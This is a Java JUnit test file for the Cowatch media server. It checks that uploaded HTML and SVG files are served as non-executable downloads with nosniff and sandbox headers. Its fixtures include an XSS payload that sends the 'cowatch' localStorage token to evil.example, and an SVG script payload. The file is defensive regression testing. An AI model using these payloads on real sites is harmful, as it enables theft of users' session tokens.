package dev.cowatch.server.http;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import dev.cowatch.core.room.UserId;
import dev.cowatch.server.TestServer;
import dev.cowatch.server.media.MediaItem;
import dev.cowatch.server.media.probe.MediaToolsConfig;
import java.io.ByteArrayInputStream;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

/**
 * Uploaded bytes never run on Cowatch's origin (issue 51, finding 3). With the media tools absent ("uploads are
 * stored without checks") an upload declared {@code text/html} or {@code image/svg+xml} was served back with that
 * type and no Content-Security-Policy: a link to it in chat ran the uploader's script where the viewer's tokens
 * are. Now whatever the probe did not find to be a video is sent as a download of no type, and every answer
 * carries {@code nosniff} and a sandbox; a video the probe found keeps its video type, whatever was declared.
 */
class UploadedContentHttpTest {
  private static final String SCRIPT = "<script>fetch('https://evil.example/?'+localStorage.getItem('cowatch'))"
      + "</script>";
  private static final String SVG = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)"
      + "</script></svg>";
  private static final HttpClient HTTP = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

  private static TestServer withoutTools() {
    Path nowhere = Path.of("/nonexistent/cowatch-tools");
    return new TestServer(TestServer.tempDir(), c -> c.media(m -> m.withTools(
        MediaToolsConfig.DEFAULTS.withFfprobe(nowhere.resolve("ffprobe")).withFfmpeg(nowhere.resolve("ffmpeg")))),
        Clock.systemUTC());
  }

  @ParameterizedTest
  @ValueSource(strings = {"text/html", "image/svg+xml", "application/xhtml+xml", "video/mp4"})
  void withoutTheTools_anUploadOfAnyDeclaredType_isServedAsADownload_thatCannotRun(String declared)
      throws Exception {
    try (TestServer ts = withoutTools(); Api api = new Api(ts); Tus tus = new Tus(ts)) {
      Api.Who eve = api.account("Eve");
      byte[] body = (declared.contains("svg") ? SVG : SCRIPT).getBytes(StandardCharsets.UTF_8);
      JsonNode item = uploaded(api, tus, eve, body, "film." + declared.replaceAll(".*[/+]", ""), declared);
      assertThat(item.get("status").asText()).isEqualTo("ready");
      String url = api.call("POST", "/api/media/" + item.get("id").asText() + "/url", null, eve.token()).json()
          .get("url").asText();

      for (String[] headers : new String[][] {{}, {"Range", "bytes=0-9"}}) {
        HttpResponse<byte[]> r = get(ts, url, headers);
        assertThat(r.statusCode()).isIn(200, 206);
        assertThat(r.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
        assertThat(r.headers().firstValue("Content-Disposition")).hasValue("attachment");
        assertGuarded(r);
      }
      HttpResponse<byte[]> head = send(ts, "HEAD", url);
      assertThat(head.headers().firstValue("Content-Disposition")).hasValue("attachment");
      assertGuarded(head);
      assertThat(item.get("contentType").asText()).as("the declared type is not recorded")
          .isEqualTo("application/octet-stream");
    }
  }

  @Test
  void aVideoTheProbeFound_keepsItsVideoType_evenDeclaredAsHtml() throws Exception {
    try (TestServer ts = new TestServer(); Api api = new Api(ts); Tus tus = new Tus(ts)) {
      Api.Who ann = api.account("Ann");
      byte[] film = Files.readAllBytes(UploadPipelineTest.MEDIA.resolve("vp8-opus.webm"));
      JsonNode item = uploaded(api, tus, ann, film, "film.html", "text/html");
      assertThat(item.get("status").asText()).isEqualTo("ready");
      String url = api.call("POST", "/api/media/" + item.get("id").asText() + "/url", null, ann.token()).json()
          .get("url").asText();

      HttpResponse<byte[]> r = get(ts, url, "Range", "bytes=0-99");

      assertThat(r.statusCode()).isEqualTo(206);
      assertThat(r.headers().firstValue("Content-Type")).hasValue("video/webm");
      assertThat(r.headers().firstValue("Content-Disposition")).isEmpty();
      assertGuarded(r);
    }
  }

  /** Items stored before the rule kept the type their uploader declared: judged when served, not when stored. */
  @ParameterizedTest
  @ValueSource(strings = {"text/html", "image/svg+xml"})
  void anItemStoredWithADocumentType_isServedAsADownload(String stored) throws Exception {
    try (TestServer ts = new TestServer(); Api api = new Api(ts)) {
      Api.Who eve = api.account("Eve");
      byte[] body = SCRIPT.getBytes(StandardCharsets.UTF_8);
      MediaItem old = ts.server().media().library().importFile(new UserId(eve.userId()), "Old", "old.html", stored,
          new ByteArrayInputStream(body), body.length);
      String url = api.call("POST", "/api/media/" + old.id() + "/url", null, eve.token()).json().get("url").asText();

      HttpResponse<byte[]> r = get(ts, url);

      assertThat(r.headers().firstValue("Content-Type")).hasValue("application/octet-stream");
      assertThat(r.headers().firstValue("Content-Disposition")).hasValue("attachment");
      assertGuarded(r);
    }
  }

  private static void assertGuarded(HttpResponse<?> r) {
    assertThat(r.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
    assertThat(r.headers().firstValue("Content-Security-Policy")).hasValue("sandbox; default-src 'none'");
  }

  /** A tus upload declaring {@code filetype}, waited for until processing has ended; the item's JSON. */
  private static JsonNode uploaded(Api api, Tus tus, Api.Who who, byte[] data, String name, String declared) {
    Map<String, String> meta = Tus.meta(name, Tus.sha256(data));
    meta.put("filetype", declared);
    Tus.Reply created = tus.create(who.token(), data.length, meta);
    assertThat(created.status()).as(created.response().body()).isEqualTo(201);
    String id = created.header("Cowatch-Media-Id");
    assertThat(tus.patch(who.token(), id, 0, data, 0, data.length).status()).isEqualTo(204);
    await().atMost(Duration.ofSeconds(60)).pollInterval(Duration.ofMillis(100)).until(() -> !api.call("GET",
        "/api/media/" + id, null, who.token()).json().get("status").asText().equals("processing"));
    return api.call("GET", "/api/media/" + id, null, who.token()).json();
  }

  private static HttpResponse<byte[]> get(TestServer ts, String path, String... headers) throws Exception {
    return send(ts, "GET", path, headers);
  }

  private static HttpResponse<byte[]> send(TestServer ts, String method, String path, String... headers)
      throws Exception {
    HttpRequest.Builder b = HttpRequest.newBuilder(ts.baseUri().resolve(path)).timeout(Duration.ofSeconds(10))
        .method(method, HttpRequest.BodyPublishers.noBody());
    if (headers.length > 0) b.headers(headers);
    return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofByteArray());
  }
}
